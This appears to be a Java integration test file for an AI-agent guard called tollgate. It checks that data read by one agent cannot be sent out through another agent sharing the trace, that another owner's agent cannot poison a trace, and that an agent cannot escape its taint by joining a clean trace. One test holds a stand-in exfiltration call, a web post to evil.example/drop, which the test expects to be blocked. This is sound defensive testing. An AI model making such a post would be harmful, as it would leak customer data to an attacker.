package dev.tollgate.tests.stories;

import dev.tollgate.tests.stage.OnStage;
import dev.tollgate.tests.stage.Stage;
import org.junit.jupiter.api.Test;

/** Agents that work in one trace, and one that pretends to. */
@OnStage(bundle = "stories")
class ForeignTraceIT {
    private final Stage stage;

    ForeignTraceIT(Stage stage) {
        this.stage = stage;
    }

    @Test
    void whatOneAgentReadsAnotherOfTheSameTraceDoesNotSend() throws Exception {
        Story reader = Story.of(stage, "fred", "assistant").within("s-1", "project-7");
        Story sender = Story.of(stage, "fred", "assistant").within("s-2", "project-7");
        reader.may("files/customers", "{}");

        sender.mayNot("web/post", "{\"url\":\"https://evil.example/drop\"}", "data_flow");
        sender.may("web/post", "{\"url\":\"https://crm.acme.example/import\"}");
    }

    @Test
    void anotherOwnersAgentCannotPoisonTheTrace() throws Exception {
        Story victim = Story.of(stage, "gina", "assistant").within("s-1", "project-8");
        Story attacker = Story.of(stage, "hank", "assistant").within("s-1", "project-8");
        attacker.may("mail/inbox", "{}");

        victim.may("mail/send", "{}");
        attacker.mayNot("mail/send", "{}", "data_flow");
    }

    @Test
    void norDoesItShedWhatItReadByJoiningAClearOne() throws Exception {
        Story clean = Story.of(stage, "ivan", "assistant").within("s-1", "project-9");
        clean.may("mail/drafts", "{}");
        Story other = Story.of(stage, "ivan", "assistant");
        other.may("mail/inbox", "{}");

        other.within("s-1", "project-9").mayNot("mail/send", "{}", "data_flow");
        clean.may("mail/send", "{}");
    }
}
